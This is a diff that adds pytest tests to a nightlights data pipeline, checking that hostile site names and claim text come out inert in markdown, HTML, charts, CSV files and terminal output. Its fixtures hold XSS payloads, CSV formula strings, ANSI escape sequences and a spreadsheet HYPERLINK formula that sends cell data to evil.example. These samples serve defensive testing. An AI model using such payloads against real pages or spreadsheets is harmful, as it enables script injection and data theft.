@@ -297,3 +297,107 @@ def test_atomic_write_never_replaces_a_device_or_fifo(tmp_path):
     with pytest.raises(NightlightsError, match="not a regular file"), outputs.atomic_write("/dev/null") as tmp:
         tmp.write_text("x")
     assert Path("/dev/null").is_char_device()
+
+
+# --------------------------------------------------------------------------- text from inputs is inert
+
+HOSTILE_NAMES = ["<script>alert(1)</script>", "<img src=x onerror=alert(2)>", "[click](javascript:alert(3))",
+                 r"$\undefinedmacro$", '=HYPERLINK("http://evil.example/?"&A1,"x")']
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    """The session's small synthetic run, its site names and claim text replaced by hostile ones."""
+    import copy
+
+    from tests.pubdata import published
+
+    results, _ = published(tmp_path_factory)
+    r = copy.copy(results)
+    names = dict(zip(sorted(results.changes["site_id"]), HOSTILE_NAMES, strict=True))
+    r.changes = results.changes.assign(name=results.changes["site_id"].map(names))
+    r.sites = results.sites.assign(name=results.sites["site_id"].map(names))
+    r.site_months = results.site_months.assign(name=results.site_months["site_id"].map(names)) \
+        if "name" in results.site_months else results.site_months
+    r.verdict = copy.deepcopy(results.verdict)
+    r.verdict["claim"]["text"] = "<script>alert(4)</script> see [here](javascript:alert(5)) <javascript:alert(6)>"
+    r.verdict["claim"]["source"] = "<img src=x onerror=alert(7)>"
+    return r
+
+
+def test_report_md_carries_no_markup_from_inputs(hostile):
+    from pipeline.publish.report import report_md
+    from pipeline.publish.style import Style
+
+    md = report_md(hostile, [], {}, Style())
+    for raw in ("<script", "<img", "](javascript:", "<javascript:", "onerror=alert(2)>"):
+        assert raw not in md, raw
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md  # still readable as text
+    assert "\\[click\\]" in md
+
+
+def test_report_html_escapes_inputs(hostile):
+    from pipeline.publish.report import report_html
+    from pipeline.publish.style import Style
+
+    page = report_html(hostile, {}, {}, Style())
+    assert "<script" not in page.lower() and "<img src=x" not in page and "onerror=alert(2)>" not in page
+    assert "<a " not in page and 'href="javascript' not in page  # no link made from input text
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
+
+
+def test_charts_show_mathtext_in_names_as_plain_text(hostile, tmp_path):
+    """``$\\undefinedmacro$`` as a site name: 'sites validate' accepts it, so charts must draw it as text."""
+    from pipeline.publish import write_publication
+    from pipeline.publish.style import Style
+
+    with staged(tmp_path / "out") as s:
+        written = write_publication(hostile, s, Style(formats=("png", "svg"), dpi=60))
+    assert {"verdict", "small_multiples"} <= set(written)
+    svg = (tmp_path / "out" / "figures" / "small_multiples.svg").read_text(encoding="utf-8")
+    assert "undefinedmacro" in svg
+
+
+def test_csv_text_cells_cannot_become_formulas(tmp_path):
+    import pandas as pd
+
+    from pipeline.outputs import inert_csv, uninert_csv, write_csv_atomic
+
+    assert inert_csv(pd.DataFrame({"a": ["\rx", "x"]}))["a"].tolist() == ["'\rx", "x"]
+    df = pd.DataFrame({"name": ["=1+2", "+SUM(A1)", "-2+3", "@cmd", "\tx", "ok", "-3.5", None],
+                       "change": [-1.5, 2.0, -3.0, 0.0, 1.0, 3.0, 1.0, 2.0],
+                       "n": [-1, 2, 3, 4, 5, 7, 8, 9]})
+    write_csv_atomic(tmp_path / "t.csv", df)
+    back = pd.read_csv(tmp_path / "t.csv", keep_default_na=False)
+    assert list(back["name"][:5]) == ["'=1+2", "'+SUM(A1)", "'-2+3", "'@cmd", "'\tx"]
+    assert list(back["name"][5:7]) == ["ok", "-3.5"]
+    assert back["change"].dtype.kind == "f" and back["change"].iloc[0] == -1.5  # numbers stay numbers
+    assert back["n"].dtype.kind == "i" and back["n"].iloc[0] == -1
+    assert list(uninert_csv(inert_csv(df))["name"][:7]) == list(df["name"][:7])
+    assert inert_csv(df)["change"].equals(df["change"]) and inert_csv(df)["n"].dtype == df["n"].dtype
+    with staged(tmp_path / "out") as s:  # the staged writer too
+        s.write_csv("t.csv", df, "synthetic")
+    assert (tmp_path / "out" / "t.csv").read_text().splitlines()[1].startswith("'=1+2,-1.5,-1,synthetic")
+
+
+def test_control_characters_from_inputs_never_reach_the_terminal(tmp_path, capsys):
+    from pipeline.cli import main
+
+    bad = tmp_path / "evil\x1b[2J\x1b]0;pwned\x07\x9b.geojson"
+    bad.write_text("{not json", encoding="utf-8")
+    assert main(["sites", "validate", str(bad)]) == 1
+    captured = capsys.readouterr()
+    assert "\x1b" not in captured.out + captured.err and "\x07" not in captured.out + captured.err
+    assert "\x9b" not in captured.out + captured.err
+    assert "evil" in captured.out + captured.err
+    assert main(["run", "--source", "local", "--rasters", str(tmp_path / "no\x1b[31mne"), "--sites", str(bad),
+                 "--out", str(tmp_path / "out"), "-q"]) == 2
+    err = capsys.readouterr().err
+    assert "\x1b" not in err and err.startswith("nightlights: error: ") and len(err.strip().splitlines()) == 1
+
+
+def test_logging_strips_control_characters(caplog):
+    from pipeline.cli import _InertFormatter
+
+    record = logging.LogRecord("x", logging.WARNING, __file__, 1, "site %s: \x1b[31mred\x1b[0m\r", ("a\x07b",), None)
+    assert _InertFormatter("%(message)s").format(record) == "site ab: red"
